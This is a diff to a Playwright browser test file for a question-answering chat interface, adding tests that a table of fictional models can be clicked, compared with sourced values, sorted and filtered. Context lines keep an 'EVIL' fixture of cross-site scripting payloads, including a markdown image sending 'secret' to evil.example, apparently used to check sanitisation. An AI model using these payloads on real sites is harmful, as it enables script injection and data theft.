@@ -8,10 +8,12 @@ from dataclasses import replace
 
 import pytest
 
-from corpus import Document, Passage
+from corpus import Document, Passage, split
+from index import Index
 from index.hits import Hit
 from rag.answers import Answer, Citation
 from rag.errors import BadQuestion
+from ui.shelf import Shelf
 
 sync_api = pytest.importorskip("playwright.sync_api", reason="playwright drives the browser: pip install playwright")
 CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
@@ -29,6 +31,14 @@ EVIL = (
     '<img src="https://evil.example/a.png" onerror="alert(1)"><script>alert(2)</script>![x](https://evil.example/?q=secret)'
     "<svg onload=alert(3)></svg> [click](javascript:alert(4)) $$\\href{javascript:alert(5)}{x}$$ </div><h1>Owned</h1>"
 )
+MODELS = """# Models
+
+| Model | Organisation | Parameters | Date | Architecture | Based on |
+|---|---|---|---|---|---|
+| Walnut-7B | Grove | 7B | 2023-02 | decoder-only | |
+| Hazel-3B | Northlab | 3B | 2023-05 | | Walnut-7B |
+| Acorn-350M | Grove | 350M | 2021 | encoder-only | |
+"""
 EXAMPLES = {"zh": ["要多少显存?", "INT8 呢?"], "en": ["How much memory?", "And INT8?"]}
 
 
@@ -100,7 +110,8 @@ def server(talker, tmp_path_factory):
     from ui.server import create_app, listen
 
     environment = dict(os.environ)
-    app = create_app(talker, examples=EXAMPLES, home=tmp_path_factory.mktemp("home"))
+    shelf = Shelf(Index.build(split([Document.from_text(MODELS, id="models.md", title="Models")])))
+    app = create_app(talker, examples=EXAMPLES, home=tmp_path_factory.mktemp("home"), shelf=shelf)
     listener = listen("127.0.0.1", 0)
     running = uvicorn.Server(uvicorn.Config(app, log_level="error", timeout_graceful_shutdown=1))
     thread = threading.Thread(target=running.run, kwargs={"sockets": [listener]}, daemon=True)
@@ -536,3 +547,45 @@ def test_the_link_of_somebody_elses_conversation_opens_nothing(visit):
 
     assert yours.locator(".sq-turn").count() == 0
     assert yours.locator(".sq-conversation").count() == 0
+
+
+def look_at_models(page, picture):
+    page.locator("#views label").nth(1).click()
+    page.locator("#pictures label").nth(["tree", "timeline", "table"].index(picture)).click()
+    page.wait_for_selector({"tree": ".sq-tree", "timeline": ".sq-timeline", "table": ".sq-models"}[picture])
+
+
+@pytest.mark.parametrize("picture", ["tree", "timeline", "table"])
+def test_a_click_on_a_model_asks_about_it(visit, picture):
+    page = visit()
+    look_at_models(page, picture)
+
+    page.click("#models .sq-model:text('Walnut-7B')")
+    page.wait_for_selector(".sq-answered")
+
+    assert page.locator(".sq-question").all_inner_texts() == ["Tell me about Walnut-7B"]
+
+
+def test_two_models_are_compared_with_a_source_for_every_value(visit):
+    page = visit()
+    look_at_models(page, "table")
+    for name in ("Walnut-7B", "Hazel-3B"):
+        page.click(f".sq-row:has-text('{name}') .sq-pick")
+    page.wait_for_selector(".sq-compared")
+
+    page.click(".sq-compared tr:has-text('Parameters') .sq-dot >> nth=1")
+    page.wait_for_selector("#source mark")
+
+    assert page.inner_text("#source mark") == "3B"
+
+
+def test_models_are_sorted_by_size_and_filtered_by_words(visit):
+    page = visit()
+    look_at_models(page, "table")
+
+    page.click(".sq-sort:text('Parameters')")
+    names = page.locator(".sq-row .sq-model").all_inner_texts()
+    page.fill("#find-model textarea, #find-model input", "northlab")
+
+    assert names == ["Acorn-350M", "Hazel-3B", "Walnut-7B"]
+    assert page.locator(".sq-row:visible .sq-model").all_inner_texts() == ["Hazel-3B"]
